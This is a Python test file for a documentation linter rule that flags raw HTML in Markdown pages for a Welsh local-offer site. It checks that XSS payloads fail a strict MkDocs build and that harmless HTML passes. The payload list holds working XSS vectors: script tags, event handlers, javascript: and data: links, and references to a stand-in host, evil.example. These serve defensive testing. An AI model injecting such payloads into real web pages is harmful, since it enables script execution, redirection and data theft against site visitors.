"""safety/raw-html: XSS payloads are flagged (and fail a real build); harmless HTML passes."""

from __future__ import annotations

import datetime as dt

import pytest

from localoffer import source
from localoffer.rules import REGISTRY, Context, load_rules
from sitekit import build, make_project

load_rules()
CTX = Context.create(jurisdiction="wales", today=dt.date(2026, 11, 23))

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example/"><button>Go</button></form>',
    "<style>body{display:none}</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x61;script:alert(1)">click</a>',
    '<a href=" JAVASCRIPT:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html,hi)",
    "![x](javascript:alert(1))",
    "[click][bad]\n\n[bad]: javascript:alert(1)",
    '<div onclick="alert(1)">Hi</div>',
    '<span onmouseover=alert(1)>Hi</span>',
    "[Hi](page.md){ onclick=\"alert(1)\" }",
    '<p style="background:url(https://evil.example/t.png)">Hi</p>',
    '<img src="https://tracker.example/pixel.png" alt="">',
]


def check(body: str, lang: str = "en"):
    name = "docs/x.cy.md" if lang == "cy" else "docs/x.md"
    return REGISTRY["safety/raw-html"].function(source.parse(f"# Title\n\n{body}\n", name), CTX)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_an_error(payload):
    found = check(payload)
    assert found, payload
    assert all(f.severity == "error" and f.rule == "safety/raw-html" for f in found)
    assert found[0].line >= 3


def test_message_is_plain_and_in_welsh():
    [f] = check("<script>alert(1)</script>", "cy")
    assert f.lang == "cy" and "rhedeg rhaglen" in f.message and "<script>" in f.message
    [f] = check("<script>alert(1)</script>")
    assert f.message.startswith("The HTML tag <script> can run a program")
    assert f.line == 3 and f.column == 1


HARMLESS = [
    '<abbr title="additional learning needs">ALN</abbr>',
    "Line one<br>line two<br/>",
    "<details><summary>More</summary>\n\nText.\n\n</details>",
    '<div markdown>\n\n**Bold**\n\n</div>',
    '<div class="lok-contact-card" markdown>\n\n**Team**\n\n</div>',
    '<span class="x" lang="cy">Croeso</span>',
    "[A link](https://www.gov.wales/) and [mail](mailto:aln@glanafon.example) and [call](tel:+441632960123)",
    "`<script>alert(1)</script>` in code is shown, not run.",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "| a | b |\n| --- | --- |\n| <kbd>Ctrl</kbd> | x<sup>2</sup> |",
    "Say hello on the phone (ring us at 9am)!",
    "Use the {jurisdiction} name.",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_html_passes(text):
    assert check(text) == [], text


XSS_PAGES = {
    "script": "<script>document.title='pwned'</script>",
    "onerror": '<img src=x onerror="document.title=1">',
    "javascript": "[Click me](javascript:alert(1))",
    "svg": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
}


def test_xss_payloads_fail_a_real_strict_build_and_never_reach_the_site(tmp_path):
    """The MkDocs hook runs the checks; an error fails ``mkdocs build --strict``, and
    ``localoffer build`` then throws the half-built folder away: no payload is published."""
    import os
    import subprocess
    import sys

    pages = {
        "index.md": "---\ntitle: Home\n---\n# Home\n\nWelcome.\n",
        "index.cy.md": "---\ntitle: Hafan\n---\n# Hafan\n\nCroeso.\n",
    }
    for name, payload in XSS_PAGES.items():
        pages[f"{name}.md"] = f"---\ntitle: {name}\n---\n# {name}\n\n{payload}\n"
    config = make_project(tmp_path / "project", pages)
    result = build(config, tmp_path / "mkdocs-site")
    assert result.returncode != 0, "mkdocs build --strict must fail"
    for name in XSS_PAGES:
        assert f"docs/{name}.md" in result.stderr and "safety/raw-html" in result.stderr
    site = tmp_path / "site"
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    published = subprocess.run(
        [sys.executable, "-m", "localoffer", "--config", str(config), "build", "--no-a11y", "--site-dir", str(site)],
        capture_output=True, text=True, env=env, check=False, cwd=config.parent,
    )
    assert published.returncode != 0
    texts = [p.read_text(encoding="utf-8") for p in site.rglob("*.html")] if site.exists() else []
    for text in texts:
        assert "document.title='pwned'" not in text and "onerror=" not in text and "javascript:alert" not in text
